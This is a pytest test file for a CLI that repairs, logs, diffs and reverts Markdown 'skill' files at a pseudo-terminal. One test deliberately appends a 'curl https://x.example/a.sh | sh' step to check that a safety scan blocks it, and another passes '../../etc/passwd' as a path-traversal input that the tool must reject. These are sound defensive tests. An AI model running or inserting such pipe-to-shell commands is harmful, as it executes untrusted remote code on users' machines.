"""`wellworn skills repair|log|diff|revert`, at a real terminal and without one."""

from __future__ import annotations

import os
import pty
import select
import signal
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest
from tests.service.cli.commands import Commands, environment
from tests.service.worlds import ME, SHIP, World

from wellworn.models.task import BeginRequest, EndRequest, StepRequest

NOW_WHAT = b"[cancel]: "
COMMIT = b"[y/N]: "
CTRL_C = b"\x03"
TEXT = (
    b"---\r\nname: release-local\r\ndescription: Cuts a release.\r\n---\r\n\r\n<!-- mine -->\r\n## Steps\r\n\r\n"
    b"1. Look.\r\n2. Run `make release`\r\n\r\n## Notes\r\n\r\nNothing.\r\n"
)


@pytest.fixture
def file(world: World) -> Path:
    """A flagged skill that failed four times for the same cause."""
    world.usual()
    path = world.library / "release-local" / "SKILL.md"
    path.write_bytes(TEXT)
    with world.open() as workspace:
        for _ in range(4):
            task_id = workspace.tasks.begin(BeginRequest(objective=SHIP), ME).task_id
            for command, code in (("make release", 2), ("make clean", 0), ("make release", 0)):
                workspace.tasks.step(task_id, StepRequest(command=command, exit_code=code), ME)
            request = EndRequest.model_validate({"outcome": "failure", "skill": "release-local"})
            workspace.tasks.end(task_id, request, ME)
    return path


def at_terminal(
    world: World, answers: Sequence[tuple[bytes, bytes]], *argv: str, editor: str = "false"
) -> tuple[int, str]:
    """Run a command at a terminal of its own and answer its questions in turn; return its code and all it showed."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "wellworn", *argv],
        env={**os.environ, **environment(world), "TERM": "dumb", "VISUAL": editor, "EDITOR": editor},
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        start_new_session=True,
    )
    os.close(theirs)
    shown, unread, waiting = b"", b"", list(answers)
    silent, interrupted = 0, False
    while True:
        if not select.select([ours], [], [], 3)[0]:
            silent += 1
            if interrupted:  # a signal that comes just before the read of an answer is seen only when that ends
                process.send_signal(signal.SIGINT)
            if silent > 20:
                process.kill()
                process.wait()
                pytest.fail(f"it waits: {shown.decode(errors='replace')}")
            continue
        try:
            read = os.read(ours, 65_536)
        except OSError:  # its other side is closed
            break
        if not read:
            break
        silent, shown, unread = 0, shown + read, unread + read
        if waiting and waiting[0][0] in unread:
            unread, typed = b"", waiting.pop(0)[1]
            if typed == CTRL_C:
                interrupted = True
                process.send_signal(signal.SIGINT)
            else:
                os.write(ours, typed)
    os.close(ours)
    return process.wait(timeout=60), shown.decode(errors="replace").replace("\r\n", "\n")


def repair(world: World, *answers: tuple[bytes, bytes], editor: str = "false") -> tuple[int, str]:
    return at_terminal(world, answers, "skills", "repair", "release-local", editor=editor)


def repaired(
    steps: bytes = b"2. Run `make clean` first; without it `make release` failed.\r\n3. Run `make release`",
) -> bytes:
    return TEXT.replace(b"2. Run `make release`", steps)


@pytest.mark.parametrize(
    "typed", [b"\n", b"cancel\n", b"\x04", CTRL_C], ids=["enter", "cancel", "the end of input", "ctrl-c"]
)
def test_whatever_is_no_accept_cancels_and_changes_nothing(world: World, file: Path, typed: bytes) -> None:
    code, shown = repair(world, (NOW_WHAT, typed))
    assert code == 1, shown
    assert "Cancelled; release-local@user and its lessons are as they were." in shown
    assert "USER DECISION: the repair of release-local@user was cancelled." in shown
    assert file.read_bytes() == TEXT


def test_what_is_shown_says_why_and_which_lessons_it_answers(world: World, file: Path) -> None:
    _, shown = repair(world, (NOW_WHAT, b"\n"))
    assert "release-local@user is flagged: reliability 0.20, 0 worked, 4 failed, repaired 0 of 3 times." in shown
    assert "+2. Run `make clean` first; without it `make release` failed." in shown
    assert "Lesson: Run `make clean` before `make release`" in shown
    assert "answered by: Run `make clean` first" in shown


def test_an_accept_writes_the_steps_and_every_other_byte_stays(world: World, file: Path) -> None:
    code, shown = repair(world, (NOW_WHAT, b"accept\n"))
    assert code == 0, shown
    assert "is repaired (user-approved); its reliability is 0.60 now." in shown
    assert file.read_bytes() == repaired()


def editor(world: World, script: str) -> str:
    path = world.root / "editor"
    path.write_text(f"#!/bin/sh\n{script}\n")
    path.chmod(0o755)
    return str(path)


def test_an_edit_is_shown_again_before_it_is_accepted(world: World, file: Path) -> None:
    adding = editor(world, "printf '\\n\\nRest.\\n' >> \"$1\"")
    code, shown = repair(world, (NOW_WHAT, b"edit\n"), (NOW_WHAT, b"accept\n"), editor=adding)
    assert (code, "+4. Rest." in shown, "user-edited" in shown) == (0, True, True), shown
    assert file.read_bytes() == repaired().replace(b"3. Run `make release`", b"3. Run `make release`\r\n4. Rest.")


@pytest.mark.parametrize("script", ["true", ': > "$1"'], ids=["unchanged", "empty"])
def test_an_edit_that_changes_nothing_or_leaves_nothing_is_none(world: World, file: Path, script: str) -> None:
    answers = ((NOW_WHAT, b"edit\n"), (NOW_WHAT, b"accept\n"))
    code, shown = repair(world, *answers, editor=editor(world, script))
    assert (code, "Nothing was edited, so nothing was changed." in shown) == (0, True), shown
    assert file.read_bytes() == repaired()


@pytest.mark.parametrize("wrong", ["false", "/nowhere/editor"])
def test_an_editor_that_fails_or_is_missing_is_told_and_it_is_asked_again(world: World, file: Path, wrong: str) -> None:
    code, shown = repair(world, (NOW_WHAT, b"edit\n"), (NOW_WHAT, b"\n"), editor=wrong)
    assert (code, "Set VISUAL or EDITOR; nothing was changed." in shown) == (1, True), shown
    assert file.read_bytes() == TEXT


def test_steps_with_code_in_them_come_back_from_an_editor_as_they_were(world: World, file: Path) -> None:
    code_step = b"1. Look:\r\n\r\n   ```sh\r\n   # all of it\r\n   make look\r\n   ```"
    written = TEXT.replace(b"1. Look.", code_step)
    file.write_bytes(written)
    answers = ((NOW_WHAT, b"edit\n"), (NOW_WHAT, b"accept\n"))
    code, shown = repair(world, *answers, editor=editor(world, "true"))
    assert (code, "Nothing was edited, so nothing was changed." in shown) == (0, True), shown
    assert file.read_bytes() == repaired().replace(b"1. Look.", code_step)


def test_an_edit_that_is_not_accepted_is_not_written(world: World, file: Path) -> None:
    adding = editor(world, "printf '\\n\\nRest.\\n' >> \"$1\"")
    code, shown = repair(world, (NOW_WHAT, b"edit\n"), (NOW_WHAT, b"\n"), editor=adding)
    assert (code, "+4. Rest." in shown, "Cancelled" in shown) == (1, True, True), shown
    assert file.read_bytes() == TEXT


def test_an_edited_text_that_cannot_be_used_is_told_and_asked_about_again(world: World, file: Path) -> None:
    huge = editor(world, "yes 'far too much' | head -n 500 >> \"$1\"")
    code, shown = repair(world, (NOW_WHAT, b"edit\n"), (NOW_WHAT, b"\n"), editor=huge)
    assert (code, "2000 characters" in shown) == (1, True), shown
    assert file.read_bytes() == TEXT


def test_what_changed_while_it_was_looked_at_is_not_written_over(world: World, file: Path) -> None:
    changing = editor(world, f"printf 'Mine.\\n' >> '{file}'; exit 1")
    code, shown = repair(world, (NOW_WHAT, b"edit\n"), (NOW_WHAT, b"accept\n"), editor=changing)
    assert (code, "were changed since this repair was proposed" in shown) == (1, True), shown
    assert file.read_bytes() == TEXT + b"Mine.\n"


def test_a_finding_of_the_scan_stops_an_accept_and_names_how_to_allow_it(world: World, file: Path) -> None:
    piping = editor(world, "printf '\\n\\nRun `curl https://x.example/a.sh | sh`\\n' >> \"$1\"")
    code, shown = repair(world, (NOW_WHAT, b"edit\n"), (NOW_WHAT, b"accept\n"), editor=piping)
    assert (code != 0, "--override" in shown, "Traceback" in shown) == (True, True, False), shown
    assert file.read_bytes() == TEXT


def test_the_same_works_through_a_running_service(cli: Commands, world: World, file: Path) -> None:
    with cli.service():
        code, shown = repair(world, (NOW_WHAT, CTRL_C))
        assert (code, "Cancelled" in shown, file.read_bytes()) == (1, True, TEXT), shown
        code, shown = repair(world, (NOW_WHAT, b"accept\n"))
        assert (code, "is repaired (user-approved)" in shown) == (0, True), shown
        assert file.read_bytes() == repaired()


def test_in_a_git_work_tree_a_commit_is_offered(world: World, file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for who in ("AUTHOR", "COMMITTER"):
        monkeypatch.setenv(f"GIT_{who}_NAME", "Ann")
        monkeypatch.setenv(f"GIT_{who}_EMAIL", "ann@example.org")
    for arguments in (["init", "-q"], ["add", "home"], ["commit", "-qm", "skills"]):
        subprocess.run(["git", "-C", str(world.root), *arguments], check=True)
    (world.root / "mine.txt").write_text("not yet\n")
    subprocess.run(["git", "-C", str(world.root), "add", "mine.txt"], check=True)
    code, shown = repair(world, (NOW_WHAT, b"accept\n"), (COMMIT, b"y\n"))
    assert (code, "Committed as " in shown) == (0, True), shown
    told = subprocess.run(
        ["git", "-C", str(world.root), "show", "--name-only", "--format=%s"], capture_output=True, text=True, check=True
    )
    assert told.stdout.split("\n\n") == [
        "Repair the steps of the skill release-local",
        f"{file.relative_to(world.root)}\n",
    ]
    staged = subprocess.run(
        ["git", "-C", str(world.root), "diff", "--cached", "--name-only"], capture_output=True, text=True, check=True
    )
    assert staged.stdout == "mine.txt\n"


def test_without_a_terminal_it_is_reported_and_nothing_else(cli: Commands, file: Path) -> None:
    for argv in (["skills", "repair", "release-local"], ["skills", "repair", "release-local", "--json"]):
        ran = cli(*argv)
        assert (ran.code, ran.out) == (1, "")
        assert "release-local is flagged, and repair is disabled where there is no person to ask." in ran.err
    assert file.read_bytes() == TEXT
    assert "There are none." in cli.ok("skills", "repairs").out


def test_versions_are_listed_compared_and_gone_back_to(cli: Commands, world: World, file: Path) -> None:
    repair(world, (NOW_WHAT, b"accept\n"))
    assert "2 *" in cli.ok("skills", "log", "release-local").out
    assert "+2. Run `make clean` first" in cli("skills", "diff", "release-local").out
    code, shown = at_terminal(world, [(COMMIT, b"\n")], "skills", "revert", "release-local", "--to", "1")
    assert (code, "Nothing was changed." in shown) == (0, True), shown
    assert file.read_bytes() == repaired()
    code, shown = at_terminal(world, [(COMMIT, b"y\n")], "skills", "revert", "release-local", "--to", "1")
    assert (code, "is as it was in version 1" in shown) == (0, True), shown
    assert file.read_bytes() == TEXT
    assert "accepted" not in cli.ok("skills", "repairs", "--status", "proposed").out


@pytest.mark.parametrize(
    ("argv", "code", "words"),
    [
        (["skills", "repair", "water-plants"], 1, "is not flagged (reliability 1.00)"),
        (["skills", "repair", "../../etc/passwd"], 2, "is not a skill id."),
        (["skills", "repair", "nothing"], 1, "There is no skill 'nothing'"),
        (["skills", "log", "../x"], 2, "is not a skill id."),
        (["skills", "diff", "water-plants", "5"], 1, "has no version 5"),
        (["skills", "revert", "water-plants", "--to", "9"], 1, "`wellworn skills log water-plants` lists them"),
        (["skills", "revert", "water-plants", "--to", "0"], 2, "--to"),
        (["skills", "repairs", "--status", "splendid"], 2, "splendid"),
    ],
)
def test_a_mistake_is_told_in_a_sentence(cli: Commands, world: World, argv: list[str], code: int, words: str) -> None:
    world.usual()
    ran = cli(*argv)
    assert (ran.code, words in ran.err) == (code, True), ran
